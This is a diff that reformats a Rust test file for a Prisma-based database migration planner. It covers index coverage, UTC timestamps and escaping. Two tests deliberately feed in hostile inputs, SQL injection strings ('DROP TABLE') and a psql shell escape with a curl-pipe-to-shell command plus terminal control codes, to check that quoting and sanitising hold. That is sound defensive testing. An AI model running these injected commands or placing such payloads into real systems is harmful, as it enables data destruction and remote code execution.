@@ -10,12 +10,18 @@ fn wanted(text: &str) -> DatabaseLayout {
 fn steps(text: &str, found: &DatabaseLayout) -> Vec<MigrationStep> {
     let model = parse("datamodel.prisma", text).unwrap();
     let wanted = layout(&model, "s");
-    let target = Target { previous: Some(found), ..Target::new(&wanted) };
+    let target = Target {
+        previous: Some(found),
+        ..Target::new(&wanted)
+    };
     plan(&model, &target, found, &[]).unwrap().steps
 }
 
 fn statements(text: &str, found: &DatabaseLayout) -> Vec<String> {
-    steps(text, found).into_iter().map(|step| step.sql.replace('\n', " ")).collect()
+    steps(text, found)
+        .into_iter()
+        .map(|step| step.sql.replace('\n', " "))
+        .collect()
 }
 
 #[test]
@@ -24,7 +30,10 @@ fn a_datamodel_becomes_prismas_tables_and_our_indexes() {
            type Order { id: ID! @id stage: Stage! price: Float number: Int @unique to: Bp! tags: [String!]!
              made: DateTime @createdAt seen: [Bp!]! @relation(name: "Seen") }
            type Bp { uid: UUID! @id json: Json }"#;
-    let found = DatabaseLayout { exists: false, ..DatabaseLayout::empty("s") };
+    let found = DatabaseLayout {
+        exists: false,
+        ..DatabaseLayout::empty("s")
+    };
     assert_eq!(
         statements(text, &found),
         [
@@ -49,16 +58,31 @@ fn a_datamodel_becomes_prismas_tables_and_our_indexes() {
 fn every_link_of_the_shop_is_indexed_once() {
     let shop = wanted(include_str!("../../../config/datamodel.prisma"));
     assert_eq!(differences(&Target::new(&shop), &shop), []);
-    for table in shop.tables.iter().filter(|t| t.purpose == TablePurpose::Model) {
+    for table in shop
+        .tables
+        .iter()
+        .filter(|t| t.purpose == TablePurpose::Model)
+    {
         for link in table.foreign_keys.iter().map(|key| key.columns[0].as_str()) {
-            let serving: Vec<_> =
-                table.indexes.iter().filter(|i| i.column_names().next() == Some(link)).collect();
+            let serving: Vec<_> = table
+                .indexes
+                .iter()
+                .filter(|i| i.column_names().next() == Some(link))
+                .collect();
             assert!(!serving.is_empty(), "{}.{link}", table.name);
-            assert!(serving.iter().all(|i| i.columns.len() > 1), "no index is the beginning of another");
+            assert!(
+                serving.iter().all(|i| i.columns.len() > 1),
+                "no index is the beginning of another"
+            );
         }
     }
     let promotions = shop.table("Promotion").unwrap();
-    assert!(promotions.indexes.iter().any(|i| i.column_names().eq(["assignedTo", "end", "uid"])));
+    assert!(
+        promotions
+            .indexes
+            .iter()
+            .any(|i| i.column_names().eq(["assignedTo", "end", "uid"]))
+    );
 }
 
 #[test]
@@ -67,17 +91,29 @@ fn names_in_the_datamodel_cannot_leave_their_quotes() {
     let text = r#"type A @db(name: "a\"; DROP TABLE x; --") { id: ID! @id
                     s: String! @db(name: "s\"") @default(value: "'; DROP TABLE x; --\\'") }"#;
     let new = statements(text, &found);
-    assert!(new[0].starts_with(r#"CREATE TABLE "s"."a""; DROP TABLE x; --" ("#), "{}", new[0]);
+    assert!(
+        new[0].starts_with(r#"CREATE TABLE "s"."a""; DROP TABLE x; --" ("#),
+        "{}",
+        new[0]
+    );
     let without = wanted(r#"type A @db(name: "a\"; DROP TABLE x; --") { id: ID! @id }"#);
     let added = statements(text, &without);
-    assert!(added[0].contains(r#"DEFAULT E'''; DROP TABLE x; --\\''';"#), "{}", added[0]);
+    assert!(
+        added[0].contains(r#"DEFAULT E'''; DROP TABLE x; --\\''';"#),
+        "{}",
+        added[0]
+    );
 }
 
 #[test]
 fn times_with_a_zone_become_times_in_utc_whatever_the_sessions_zone_is() {
     let text = "type A { id: ID! @id at: DateTime }";
     let mut found = wanted(text);
-    let at = found.tables.iter_mut().flat_map(|table| &mut table.columns).find(|column| column.name == "at");
+    let at = found
+        .tables
+        .iter_mut()
+        .flat_map(|table| &mut table.columns)
+        .find(|column| column.name == "at");
     at.unwrap().sql_type = "timestamp with time zone".to_owned();
     assert_eq!(
         statements(text, &found),
@@ -103,12 +139,19 @@ fn what_is_in_a_row_cannot_leave_its_comment() {
     let before = wanted("type A { id: ID! @id a: Int }");
     let mut steps = steps("type A { id: ID! @id }", &before);
     let evil = "\n\\!curl x.io|sh #\u{1b}[2J\u{85}\r";
-    let rows = FoundRows { count: 1, example: Some(evil.into()), value: Some(evil.into()) };
+    let rows = FoundRows {
+        count: 1,
+        example: Some(evil.into()),
+        value: Some(evil.into()),
+    };
     let described = rows.describe("row", "rows", true);
     assert!(!described.contains(char::is_control), "{described:?}");
     steps[0].data_loss.as_mut().unwrap().rows = rows;
     let text = sql_text(&steps);
-    assert!(text.contains("1 row, e.g. `\u{fffd}\\!curl x.io|sh #\u{fffd}[2J"), "{text}");
+    assert!(
+        text.contains("1 row, e.g. `\u{fffd}\\!curl x.io|sh #\u{fffd}[2J"),
+        "{text}"
+    );
     assert!(!text.contains("\n\\!"), "{text}");
     assert!(!text.contains('\u{1b}'), "{text}");
 }
